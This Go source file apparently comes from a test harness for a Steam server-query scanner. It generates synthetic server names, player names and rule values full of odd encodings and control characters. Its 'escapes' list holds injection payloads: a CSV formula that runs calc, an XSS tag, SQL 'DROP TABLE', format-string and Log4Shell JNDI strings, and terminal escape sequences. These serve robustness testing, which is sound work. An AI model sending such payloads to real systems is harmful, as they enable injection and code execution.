package fleet

import (
	"bytes"
	"strconv"
	"strings"

	"github.com/a2sscan/a2sscan/bench/fleet/internal/random"
)

// nameLimit is the length at which the Steam SDK cuts a server's name, even in the
// middle of a character (EC-40).
const nameLimit = 63

var (
	clans = []string{"[EU]", "[RU]", "skial.com", "=F|A=", "BRASIL", "uwu", "Mutiny", "24/7",
		"[GER]", "Old School", "NoPing", "Zombie Haven", "#1", "Public", "Valve"}
	themes = []string{"Dust2 only", "Fun Server", "No Lag", "DarkRP", "Instant Respawn", "128 tick",
		"2x Vanilla", "Deathmatch", "Trade", "Surf Beginner", "Community", "Noobs welcome", "PvP", "Roleplay"}

	wideNames = []string{
		"Сервер для своих | Москва", "Только Dust2 · без лагов", "中国社区服 上海 32人", "【日本】サバイバル鯖",
		"한국 공식 서버 #1", "خادم عربي للمبتدئين", "🔥 2× LOOT 🔥 MONDAY WIPE 💀", "Ελληνικός server — καλώς ήρθατε",
		"Ünïcødé Tëst", "שרת ישראלי", "Zażółć gęślą jaźń", "👩‍👩‍👧‍👦 family friendly ❤️",
	}
	brokenNames = []string{
		"\xd1\xe5\xf0\xe2\xe5\xf0 \xd0\xee\xf1\xf1\xe8\xff",             // CP1251
		"\xd6\xd0\xb9\xfa\xb7\xfe\xce\xf1\xc6\xf7 CS1.6",                // GBK
		"half a character \xe4\xb8", "\xff\xfe raw", "\xc0\xafoverlong", // invalid UTF-8
		"\xed\xa0\x80surrogate\xf5\x80\x80\x80", "tail \xf0\x9f\x94", "\x80\x80\x80",
	}
	controlNames = []string{
		"\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01\x01   skial.com | 2FORT", // EC-38
		"^1Red ^7and\twhite\r\n", "\x1b[31mred\x1b[0m alert", "bell\x07 back\x08space", "del\x7f",
		"quote\" back\\slash </script>", "\u202eevil\u202c bidi", "c1 \u009b31m",
	}

	playerNames = constants(
		"[D]---->T.N.W<----", "Killer !!!", "xX_Sniper_Xx", "unnamed", "Player", "(1)Player", "Вася", "Kemal",
		"小明", "ゆき", "Gordon", "noob.exe", "João", "🔥ace🔥", "a", "| clan | leader", "Shipmate", "LandLubber",
		"Алексей", "Łukasz", "dr. \"quote\"", "back\\slash", "^3yellow", "Привет", "bob", "Max Players",
	)
)

// Values of optional fields.
var (
	sourceTV     = []byte("SourceTV")
	leftover     = []byte("\x00\x00extra")
	modURLs      = constants("www.counter-strike.net", "http://example.org/mod", "")
	modDownloads = constants("", "http://example.org/get")
)

// appendName appends a server's name: usually a plain name, sometimes one of the
// odd sorts found in the wild.
func appendName(dst []byte, r *random.Stream) []byte {
	start := len(dst)
	switch at := r.Below(100); {
	case at < 62:
		return appendPlainName(dst, r)
	case at < 78:
		return append(dst, random.Pick(r, wideNames)...)
	case at < 84:
		for len(dst)-start < nameLimit {
			dst = append(dst, random.Pick(r, wideNames)...)
			dst = append(dst, ' ')
		}
		return dst[:start+nameLimit]
	case at < 89:
		return append(dst, random.Pick(r, brokenNames)...)
	case at < 94:
		return append(dst, random.Pick(r, controlNames)...)
	case at < 96:
		return dst // empty
	case at < 98:
		return appendLongName(dst, r)
	}
	return append(append(dst, "   "...), random.Pick(r, clans)...) // EC-39
}

func appendPlainName(dst []byte, r *random.Stream) []byte {
	dst = append(append(dst, random.Pick(r, clans)...), ' ')
	dst = append(append(dst, random.Pick(r, themes)...), " #"...)
	return strconv.AppendInt(dst, int64(r.Below(10000)), 10)
}

// appendLongName appends a name of at least 200 or, in one of eight cases, 2000
// bytes (EC-53).
func appendLongName(dst []byte, r *random.Stream) []byte {
	n := 200
	if r.OneIn(8) {
		n = 2000
	}
	for n += len(dst); len(dst) < n; {
		dst = append(appendPlainName(dst, r), ' ')
	}
	return dst
}

// appendPlayerName appends the name of a player.
func appendPlayerName(dst []byte, r *random.Stream) []byte {
	switch at := r.Below(100); {
	case at < 3:
		return dst // a slot that is connecting (EC-80)
	case at < 5:
		return append(dst, random.Pick(r, controlNames)...)
	case at < 6:
		return append(dst, bytes.Repeat([]byte("W"), 31)...)
	case at == 6 && r.OneIn(8):
		return append(dst, "\xcf\xf0\xe8\xe2\xe5\xf2"...) // CP1251
	case at < 60:
		return append(dst, random.Pick(r, playerNames)...)
	}
	dst = append(append(dst, random.Pick(r, playerNames)...), '.')
	return strconv.AppendInt(dst, int64(r.Below(1000)), 10)
}

// constants converts strings to byte slices, which must not be changed: the
// contents of all servers share them.
func constants(ss ...string) (texts [][]byte) {
	for _, s := range ss {
		texts = append(texts, []byte(s))
	}
	return texts
}

// cvar is a rule as found on servers, and the values that it may have.
type cvar struct {
	name   []byte
	values [][]byte
}

// cvars are rules found on servers of all engines.
var cvars = newCvars(
	"_tutor_bomb_viewable_check_interval=0.5", "allow_spectators=1 0", "amx_nextmap=de_dust2 de_inferno de_train",
	"amx_timeleft=00:00 12:34 24:59", "amxmodx_version=1.8.2 1.9.0.5294 1.10.0.5467", "bot_quota=0 0 0 4 10",
	"coop=0", "deathmatch=1", "decalfrequency=10 30 60", "edgefriction=2", "hostage_debug=0",
	"metamod_version=1.21p37 1.3.0.149 1.12.0-dev+1219", "mp_allowmonsters=0", "mp_autokick=0 1",
	"mp_autoteambalance=0 1", "mp_buytime=0.25 1.5", "mp_c4timer=35 45", "mp_chattime=5 10", "mp_consistency=0 1",
	"mp_falldamage=0 1", "mp_flashlight=0 1", "mp_footsteps=1", "mp_forcecamera=0 1", "mp_fraglimit=0 50",
	"mp_freezetime=0 3 6", "mp_friendlyfire=0 0 1", "mp_hostagepenalty=0 5", "mp_limitteams=0 1 2", "mp_logdetail=0 3",
	"mp_maxrounds=0 30", "mp_roundtime=1.75 2.5 5", "mp_startmoney=800 16000", "mp_timelimit=0 20 30 45",
	"mp_winlimit=0 13", "nextlevel= cp_granary koth_viaduct", "pausable=0", "r_AirboatViewDampenDamp=1.0",
	"sm_nextmap=de_dust2 pl_upward cp_process_final", "sourcemod_version=1.10.0.6510 1.11.0.6968 1.12.0.7163",
	"sv_accelerate=5 10", "sv_aim=0", "sv_airaccelerate=10 100 150", "sv_alltalk=0 1", "sv_bounce=0 1", "sv_cheats=0",
	"sv_contact=admin@example.org https://example.org/rules?id=1&lang=en", "sv_footsteps=1", "sv_friction=4",
	"sv_gravity=800 800 800 600", "sv_logblocks=0 1", "sv_maxrate=0 25000 100000", "sv_maxspeed=320 900",
	"sv_password=0 0 0 1", "sv_proxies=1", "sv_rollangle=0 2.0", "sv_specaccelerate=5", "sv_stepsize=18",
	"sv_stopspeed=75 100", "sv_tags=alltalk,increased_maxplayers nocrits,norespawntime", "sv_uploadmax=0.5",
	"sv_voiceenable=1", "sv_wateraccelerate=10", "tf_arena_max_streak=3 5", "tv_enable=0 1",
)

// newCvars parses names, each followed by an equals sign and values separated by
// spaces.
func newCvars(all ...string) (vars []cvar) {
	for _, text := range all {
		name, values, _ := strings.Cut(text, "=")
		vars = append(vars, cvar{[]byte(name), constants(strings.Split(values, " ")...)})
	}
	return vars
}

// pluginVersions are the values of rules that are not in cvars.
var pluginVersions = constants("1.0", "1.2.3", "2.0.1", "0.9b", "1.12.0.7163", "3.1")

// oddValues are values that few servers have: bytes that are not UTF-8, quotes,
// other alphabets, or nothing at all.
var oddValues = constants(
	"Добро пожаловать", "\"quoted\"", "\xcf\xf0\xe0\xe2\xe8\xeb\xe0", "a\ttab", "", "-1", "half \xe4\xb8",
)

// oneInOdd is how rare servers with odd values among their rules are: one in 16. In
// the real world, about one server in 64 has a value that is not UTF-8.
const oneInOdd = 16

// ruleValue returns a random value for the rule usual or, if usual is nil, for a
// rule that is not in cvars. If odd is set, it sometimes returns an odd value.
func ruleValue(r *random.Stream, usual *cvar, odd bool) []byte {
	switch {
	case odd && r.OneIn(4):
		return random.Pick(r, oddValues)
	case usual == nil:
		return random.Pick(r, pluginVersions)
	}
	return random.Pick(r, usual.values)
}

// appendRuleName appends the name of rule i if it is not in cvars.
func appendRuleName(dst []byte, i int) []byte {
	dst = strconv.AppendInt(append(dst, "sm_plugin_"...), int64(i), 10)
	return append(dst, "_version"...)
}

// hostileText surrounds a word with escape sequences: colours, a title, a cleared
// screen, bidirectional overrides, C1 controls, a formula, markup.
func hostileText(dst []byte, r *random.Stream, word []byte) []byte {
	dst = append(dst, random.Pick(r, escapes)...)
	dst = append(dst, word...)
	return append(dst, random.Pick(r, escapes)...)
}

var escapes = []string{
	"\x1b[2J\x1b[1;1H", "\x1b]0;owned\x07", "\x1b[31;1m", "\x1b]8;;http://example.org\x1b\\", "\x9b31m",
	"\u202e", "\u2066\u2069", "\u009b2J", "=cmd|' /C calc'!A0", "<img src=x onerror=alert(1)>", "'; DROP TABLE servers; --",
	"\r\n{\"schema\":1}\r\n", "\x08\x08\x08", "\ufeff\u200b", "%s%n%x", "${jndi:ldap://example.org}", "\"},\"status\":\"ok",
}

// maxPages is the maximum number of binary pages at the beginning of a list of
// rules.
const maxPages = 7

// appendPage appends a rule as found on Arma 3 servers. Its name is the number of
// the page and the number of pages, one byte each. Its value has 40 to 127 bytes,
// none of which is 0 (EC-101).
func appendPage(dst []byte, r *random.Stream, i, of int) []byte {
	dst = append(dst, byte(i+1), byte(of))
	for range r.Between(40, 127) {
		dst = append(dst, byte(1+r.Below(255)))
	}
	return dst
}
